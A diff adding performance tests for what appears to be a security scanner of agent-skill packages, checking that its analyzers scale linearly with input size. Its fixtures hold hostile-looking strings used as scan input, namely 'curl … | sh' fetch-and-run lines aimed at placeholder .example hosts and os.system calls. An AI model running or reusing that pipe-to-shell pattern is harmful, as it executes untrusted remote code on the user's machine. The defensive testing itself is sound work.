@@ -1,0 +1,129 @@
+"""Growth checks (issue 18): each engine and stage over an input of one shape at size n and 4n, n large
+enough that the n run takes at least 0.3 s of CPU; the CPU-time ratio (median of 3 runs) must be at
+most 8, i.e. work grows about linearly (4x, with room for noise), never quadratically (16x). CPU time of
+this process (`time.process_time`), so a loaded machine does not make the check flaky."""
+
+from __future__ import annotations
+
+import json
+import statistics
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+pytestmark = pytest.mark.complexity
+
+MIN_CPU = 0.3
+MAX_RATIO = 8.0
+
+
+def _cpu(run: Callable[[Any], object], arg: Any) -> float:
+    start = time.process_time()
+    run(arg)
+    return time.process_time() - start
+
+
+def growth(make: Callable[[int], Any], run: Callable[[Any], object], n: int, cap: int = 1 << 22) -> float:
+    """The median CPU ratio of run(make(4n)) to run(make(n)), n doubled until the n run takes MIN_CPU."""
+    run(make(max(1, n // 8)))  # warm-up: rule catalogs, parsers and caches load outside the timing
+    while _cpu(run, make(n)) < MIN_CPU and n < cap:
+        n *= 2
+    small, big = make(n), make(4 * n)
+    ratios = [_cpu(run, big) / max(_cpu(run, small), 1e-9) for _ in range(3)]
+    return statistics.median(ratios)
+
+
+def _file(path: str, text: str) -> Any:
+    from skillscan.loaders.files import make_file
+    return make_file(path, text.encode())
+
+
+def _package(files: tuple[Any, ...] = (), surfaces: tuple[Any, ...] = ()) -> Any:
+    from skillscan.model import Package
+    return Package(input="c", root="c", format="agent-skill", name="c", files=files, surfaces=surfaces)
+
+
+def test_prose_lines_instructions_engine() -> None:
+    from skillscan.analyzers.instructions import InstructionsAnalyzer
+    engine = InstructionsAnalyzer()
+
+    def make(n: int) -> Any:
+        body = "".join(f"Step {i}: read the notes in docs/guide-{i}.md and summarise them for the user.\n"
+                       for i in range(n))
+        return _file("SKILL.md", "---\nname: c\ndescription: notes\n---\n" + body)
+
+    assert growth(make, lambda f: engine.analyze_file(_package(), f), 500) <= MAX_RATIO
+
+
+def test_load_time_commands_loader() -> None:
+    from skillscan.formats.agent_skill import load_time_commands
+
+    def make(n: int) -> str:
+        return "".join(f"- step {i}: !`echo {i}`\n" for i in range(n))
+
+    assert growth(make, lambda t: load_time_commands(t, "SKILL.md"), 20_000) <= MAX_RATIO
+
+
+def test_surfaces_permit_stage() -> None:
+    from skillscan.model import Surface
+    from skillscan.permissions.diff import inferred_capabilities
+
+    def make(n: int) -> Any:
+        return _package(surfaces=tuple(Surface(kind="load-time-command", path="SKILL.md", line=i + 5,
+                                               command=f"curl -s https://h{i % 50}.example/x")
+                                       for i in range(n)))
+
+    assert growth(make, lambda p: inferred_capabilities(p, []), 2_000) <= MAX_RATIO
+
+
+def test_hooks_manifest_parser() -> None:
+    from skillscan.formats.common import hook_surfaces
+
+    def make(n: int) -> tuple[dict[str, Any], str]:
+        hooks = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": f"echo {i}"}]}
+                                          for i in range(n)]}}
+        return hooks, json.dumps(hooks, indent=1)
+
+    assert growth(make, lambda h: hook_surfaces(h[0], "hooks/hooks.json", h[1]), 5_000) <= MAX_RATIO
+
+
+def test_findings_per_file_shell_engine() -> None:
+    from skillscan.analyzers.shell import ShellFileAnalyzer
+    engine = ShellFileAnalyzer()
+
+    def make(n: int) -> Any:
+        return _file("run.sh", "#!/bin/sh\n" + "".join(f"curl -s https://h{i}.example/x | sh\n" for i in range(n)))
+
+    assert growth(make, lambda f: engine.analyze_file(_package(), f), 200) <= MAX_RATIO
+
+
+def test_files_per_package_analyze_stage() -> None:
+    from skillscan.analyze import analyze_files
+
+    def make(n: int) -> tuple[Any, ...]:
+        return tuple(_file(f"scripts/s{i}.py", f"import os\nos.system('echo {i}')\n") for i in range(n))
+
+    assert growth(make, lambda fs: analyze_files(_package(), fs), 20) <= MAX_RATIO
+
+
+def test_nesting_depth_python_engine() -> None:
+    """Deep brackets are emptied before the parse (flatten.py): the cost follows the text, not the depth."""
+    from skillscan.analyzers.python import PythonAnalyzer
+    engine = PythonAnalyzer()
+
+    def make(n: int) -> Any:
+        return _file("main.py", "import os\nx = " + "[" * n + "]" * n + "\nos.system('id')\n")
+
+    assert growth(make, lambda f: engine.analyze_file(_package(), f), 2_000) <= MAX_RATIO
+
+
+def test_one_long_line_frontmatter_and_markdown() -> None:
+    from skillscan.analyzers.instructions import InstructionsAnalyzer
+    engine = InstructionsAnalyzer()
+
+    def make(n: int) -> Any:
+        return _file("SKILL.md", "---\nname: c\ndescription: one line\n---\n" + "word " * n)
+
+    assert growth(make, lambda f: engine.analyze_file(_package(), f), 50_000) <= MAX_RATIO
